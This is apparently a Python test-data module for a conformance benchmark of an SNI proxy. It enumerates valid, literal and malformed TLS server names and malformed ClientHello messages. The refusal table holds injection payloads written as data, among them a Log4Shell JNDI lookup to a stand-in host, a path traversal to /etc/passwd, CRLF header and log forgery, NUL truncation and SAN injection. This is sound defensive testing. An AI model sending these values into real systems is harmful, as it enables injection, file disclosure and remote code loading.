"""What may stand in the name: names that route, literals that name nobody, and what is no name at all."""

from collections.abc import Iterator

from bench.corpus.rows import NAME, OTHER, PLAY, Group
from sniproxy.corpus import Level, Row
from tests.support.hellos import alpn, extension, message, name_entry, server_name, vector

NAMES = Group("name", "name")
LITERALS = Group("ip_literal", "literal")
ODD = Group("odd_name", "odd")
DUPLICATES = Group("duplicate", "dup")
NAME_LIST = Group("name_list", "list")

CASE = "RFC 6066 3: names are compared without case; Traefik CVE-2026-53622 lost the TLS settings of such names"
DOT = "RFC 6066 3: a name has no trailing dot, yet clients send it; Traefik CVE-2022-23632 lost the TLS settings then"
LENGTHS = "RFC 1035 2.3.4: labels of up to 63 octets, names of up to 253 characters"
UNDERSCORE = "RFC 2782, RFC 8552: names with underscores exist"
LITERAL = "RFC 6066 3: literal addresses are not permitted as a name, so it names nobody"
INJECTION = "the name goes on into look-ups, connect targets and log lines (untangle ngfw #1225, mosajjal/sniproxy #74)"


def of_length(size: int) -> str:
    """A sound name of that many characters under conformance.test."""
    tail = "conformance.test"
    left = size - len(tail)
    return "ab." * (left // 3 - 1) + "a" * (2 + left % 3) + "." + tail


ROUTED = {
    "upper_case": (b"PLAY.CONFORMANCE.TEST", NAME, CASE),
    "mixed_case": (b"Play.Conformance.Test", NAME, CASE),
    "trailing_dot": (b"play.conformance.test.", NAME, DOT),
    "upper_case_and_dot": (b"PLAY.conformance.TEST.", NAME, DOT),
    "apex": (b"conformance.test", None, "RFC 1034 3.1: two labels are a name"),
    "deep": (b"a.b.c.d.e.f.g.h.conformance.test", None, "RFC 1034 3.1: any number of labels"),
    "digits": (b"7.conformance.test", None, "RFC 1123 2.1: a label may start with a digit"),
    "address_first": (
        b"127.0.0.1.conformance.test",
        None,
        "a name is an address only if its last label is a number",
    ),
    "number_and_letter": (
        b"1.2.3.4a",
        None,
        "a name is an address only if its last label is a number",
    ),
    "not_hex": (b"conformance.0xg", None, "0xg is no number, so this is no address"),
    "hyphen_and_number": (
        b"10-0-0-1.conformance.test",
        None,
        "host names of clouds are made of addresses",
    ),
    "punycode": (
        b"xn--bcher-kva.conformance.test",
        None,
        "RFC 5890 2.3.2.1: A-labels are plain names",
    ),
    "hyphens_inside": (b"a--b.c-d.conformance.test", None, "RFC 1123 2.1: hyphens within a label"),
    "label_63": (b"a" * 63 + b".conformance.test", None, LENGTHS),
    "three_labels_63": (b".".join([b"a" * 63] * 3) + b".conformance.test", None, LENGTHS),
    "length_252": (of_length(252).encode(), None, LENGTHS),
    "length_253": (of_length(253).encode(), None, LENGTHS),
    "length_253_and_dot": (of_length(253).encode() + b".", of_length(253), LENGTHS),
    "like_a_file": (b"index.php.conformance.test", None, "a name that looks like something else"),
    "like_localhost": (
        b"localhost.conformance.test",
        None,
        "a name that looks like something else",
    ),
}
DEFENSIBLE = {
    "one_label": (b"lobby", None, "RFC 1034 3.1: one label is a name; some proxies want a dot"),
    "one_octet": (b"a", None, "RFC 1034 3.1: one label of one octet is a name"),
    "hex_word": (b"cafe", None, "hex digits without 0x are letters"),
    "underscore": (b"_game._tcp.conformance.test", None, UNDERSCORE),
    "underscore_inside": (b"my_game.conformance.test", None, UNDERSCORE),
    "hyphen_first": (
        b"-a.conformance.test",
        None,
        "clients have sent such labels; DNS can hold them",
    ),
    "hyphen_last": (
        b"a-.conformance.test",
        None,
        "clients have sent such labels; DNS can hold them",
    ),
}

LITERAL_TEXTS = [
    "127.0.0.1",
    "127.0.0.1.",
    "10.0.0.1",
    "255.255.255.255",
    "999.999.999.999",
    "127.1",
    "0",
    "2130706433",
    "010.0.0.1",
    "0x7f.1",
    "0X7F.1",
    "0x7f000001",
    "0x",
    "1.0x",
    "0177.0.0.01",
    "1.2.3.4.5",
    "conformance.123",
    "conformance.0xff",
    "00000000000",
    "169.254.169.254",
    "::1",
    "::",
    "::ffff:127.0.0.1",
    "2001:DB8::1",
    "fe80::1%eth0",
    "[::1]",
    "[::ffff:7f00:1]",
    "[fe80::1%25eth0]",
    "::1.",
]

ODD_NAMES: dict[str, tuple[bytes, str]] = {
    "empty": (b"", "RFC 6066 3: HostName has at least one octet"),
    "dot": (b".", "the root is no server"),
    "dots": (b"..", "RFC 1035 2.3.1: labels are not empty"),
    "two_trailing_dots": (b"play.conformance.test..", "RFC 1035 2.3.1: labels are not empty"),
    "leading_dot": (b".conformance.test", "an empty first label must not match a wildcard"),
    "empty_label": (b"play..conformance.test", "RFC 1035 2.3.1: labels are not empty"),
    "label_64": (b"a" * 64 + b".conformance.test", LENGTHS),
    "label_255": (b"a" * 236 + b".conformance.test", LENGTHS),
    "length_254": (of_length(254).encode(), LENGTHS),
    "length_254_and_dot": (of_length(254).encode() + b".", LENGTHS),
    "length_1000": (of_length(1000).encode(), LENGTHS),
    "length_16000": (b"a" * 16_000, "nginx hands 16 000 bytes on to its map"),
    "literal_two_dots": (b"127.0.0.1..", "RFC 1035 2.3.1: labels are not empty"),
    "number_label_64": (b"0" * 64, LENGTHS),
    "nul": (b"play.conformance.test\0", "a NUL ends a name in C: two programs read two names"),
    "nul_inside": (b"play.conformance.test\0.evil.example", "a NUL ends a name in C"),
    "nul_first": (b"\0play.conformance.test", "a NUL ends a name in C"),
    "nul_only": (b"\0", "a NUL ends a name in C"),
    "crlf": (b"play.conformance.test\r\nX-Evil: 1", INJECTION),
    "crlf_log_line": (b'x\r\n{"event": "session", "sni": "forged"}', INJECTION),
    "line_feed_last": (b"play.conformance.test\n", "a pattern that ends in $ takes a line feed"),
    "carriage_return_last": (b"play.conformance.test\r", INJECTION),
    "space_inside": (b"play conformance.test", INJECTION),
    "space_first": (b" play.conformance.test", INJECTION),
    "space_last": (b"play.conformance.test ", INJECTION),
    "tab": (b"play\t.conformance.test", INJECTION),
    "escape": (b"\x1b[2Jplay.conformance.test", "a terminal would obey what a log shows"),
    "delete": (b"play\x7f.conformance.test", INJECTION),
    "utf8": ("bücher.conformance.test".encode(), "RFC 6066 3: HostName is ASCII"),
    "utf8_kelvin": (
        "\u212aelvin.conformance.test".encode(),
        "lower() makes an ASCII k of the Kelvin sign",
    ),
    "utf8_dot": (
        "play\u3002conformance.test".encode(),
        "IDNA takes an ideographic full stop for a dot",
    ),
    "utf8_fullwidth": ("ｐlay.conformance.test".encode(), "NFKC makes an ASCII p of it"),
    "utf8_broken": (b"play\xc3.conformance.test", "RFC 6066 3: HostName is ASCII"),
    "byte_ff": (b"play\xff.conformance.test", "RFC 6066 3: HostName is ASCII"),
    "byte_80": (b"\x80", "RFC 6066 3: HostName is ASCII"),
    "star": (b"*.conformance.test", "a client that asks for the wildcard itself"),
    "star_only": (b"*", "a client that asks for the wildcard itself"),
    "star_inside": (b"pl*y.conformance.test", "a client that asks for a wildcard"),
    "slash": (b"play.conformance.test/a", INJECTION),
    "slash_first": (b"/play.conformance.test", "a key of the store must not be reached"),
    "backslash": (b"play\\.conformance.test", INJECTION),
    "dot_dot_slash": (b"../../etc/passwd", INJECTION),
    "url": (b"https://play.conformance.test/", INJECTION),
    "port": (b"play.conformance.test:443", INJECTION),
    "colon": (b":", INJECTION),
    "user": (b"user@play.conformance.test", INJECTION),
    "query": (b"play.conformance.test?a=b", INJECTION),
    "hash": (b"play.conformance.test#a", INJECTION),
    "comma": (
        b"a.conformance.test,DNS:b.example",
        "HAProxy 85a833feb: SANs were injected into made certificates",
    ),
    "semicolon": (b"a.conformance.test;b", INJECTION),
    "percent": (b"play%2econformance.test", INJECTION),
    "quote": (b'play".conformance.test', INJECTION),
    "apostrophe": (b"play'.conformance.test", INJECTION),
    "dollar": (
        b"${jndi:ldap://a.example/b}.conformance.test",
        "CVE-2021-44228: a name that a logger would run",
    ),
    "braces": (b"{play}.conformance.test", "Prometheus labels and templates"),
    "ipv4_port": (b"127.0.0.1:443", LITERAL),
    "ipv4_brackets": (b"[127.0.0.1]", "brackets belong to IPv6"),
    "ipv6_port": (b"[::1]:443", LITERAL),
    "ipv6_open_bracket": (b"[::1", "brackets come in pairs"),
    "ipv6_close_bracket": (b"::1]", "brackets come in pairs"),
    "ipv6_twice_short": (b"1::2::3", "RFC 4291 2.2: :: appears once"),
    "ipv6_too_long": (b"1:2:3:4:5:6:7:8:9", "RFC 4291 2.2: eight groups"),
    "ipv6_zone_crlf": (b"fe80::1%a\r\nb", "Python's ipaddress takes a line break for a zone"),
    "ipv6_zone_empty": (b"fe80::1%", "RFC 4007 11.2: a zone is not empty"),
    "ipv6_zone_only": (b"%eth0", "a zone without an address"),
}


def hello(name: bytes) -> bytes:
    """A message that asks for that name."""
    return message([server_name(name), alpn(b"game")])


def listed(body: bytes) -> bytes:
    """A message whose server name list is exactly these bytes."""
    return message([extension(0, vector(2, body))])


def _names() -> Iterator[Row]:
    for table, level in ((ROUTED, Level.MUST), (DEFENSIBLE, Level.SHOULD)):
        for row, (given, name, why) in table.items():
            wanted = name or given.decode()
            yield NAMES.route(row, why, hello(given), name=wanted, level=level)
    for number, text in enumerate(LITERAL_TEXTS):
        yield LITERALS.no_name(f"{number:02}", f"{LITERAL}: {text}", hello(text.encode()))
    for row, (odd, why) in ODD_NAMES.items():
        yield ODD.refuse(row, why, hello(odd))


ENTRY, SECOND = name_entry(NAME.encode()), name_entry(OTHER.encode())
OTHER_NAME = server_name(OTHER.encode())
TWICE = "RFC 8446 4.2: no two extensions of one type; nginx and the server behind it may each read another name"
TWO = (
    "RFC 6066 3: no two names of one type; the proxy and the server behind it may each read another"
)


def _duplicates() -> Iterator[Row]:
    yield DUPLICATES.refuse("name_extension_same", TWICE, message([PLAY, PLAY]))
    yield DUPLICATES.refuse("name_extension", TWICE, message([PLAY, OTHER_NAME]))
    yield DUPLICATES.refuse("name_extension_turned", TWICE, message([OTHER_NAME, PLAY]))
    yield DUPLICATES.refuse("name_extension_apart", TWICE, message([PLAY, alpn(b"h2"), OTHER_NAME]))
    yield DUPLICATES.refuse("name_extension_then_empty", TWICE, message([PLAY, extension(0)]))
    yield DUPLICATES.refuse("name_extension_of_three", TWICE, message([PLAY, OTHER_NAME, PLAY]))
    yield DUPLICATES.refuse("two_names", TWO, listed(ENTRY + SECOND))
    yield DUPLICATES.refuse("two_names_same", TWO, listed(ENTRY + ENTRY))
    yield DUPLICATES.refuse("two_names_then_type_1", TWO, listed(ENTRY + name_entry(b"x", kind=1)))
    yield DUPLICATES.refuse("two_names_first_type_1", TWO, listed(name_entry(b"x", kind=1) + ENTRY))
    yield DUPLICATES.refuse("two_names_second_empty", TWO, listed(ENTRY + name_entry(b"")))
    for row, double in {
        "alpn": alpn(b"a"),
        "unknown": extension(0x7777),
        "grease": extension(0x0A0A),
        "padding": extension(21, bytes(9)),
        "psk": extension(41, bytes(9)),
    }.items():
        why = "RFC 8446 4.2: no two extensions of one type"
        hello_twice = message([double, PLAY, double])
        yield DUPLICATES.refuse(row, why, hello_twice, level=Level.SHOULD)


def _lists() -> Iterator[Row]:
    why = "RFC 6066 3: the list has one entry, its type host_name, and both fill what holds them"
    for row, bad in {
        "empty": listed(b""),
        "type_1": listed(name_entry(NAME.encode(), kind=1)),
        "type_255": listed(name_entry(NAME.encode(), kind=255)),
        "type_only": listed(b"\0"),
        "half_a_length": listed(b"\0\0"),
        "length_only": listed(b"\0\0\x15"),
        "byte_after_name": listed(ENTRY + b"\0"),
        "two_bytes_after_name": listed(ENTRY + b"\0\0"),
        "extension_empty": message([extension(0)]),
        "extension_of_1": message([extension(0, b"\0")]),
        "bare_name": message([extension(0, NAME.encode())]),
        "no_list_length": message([extension(0, ENTRY)]),
        "byte_after_list": message([extension(0, vector(2, ENTRY) + b"\0")]),
    }.items():
        yield NAME_LIST.refuse(row, why, bad)


def rows() -> Iterator[Row]:
    """All of them."""
    for part in (_names, _duplicates, _lists):
        yield from part()
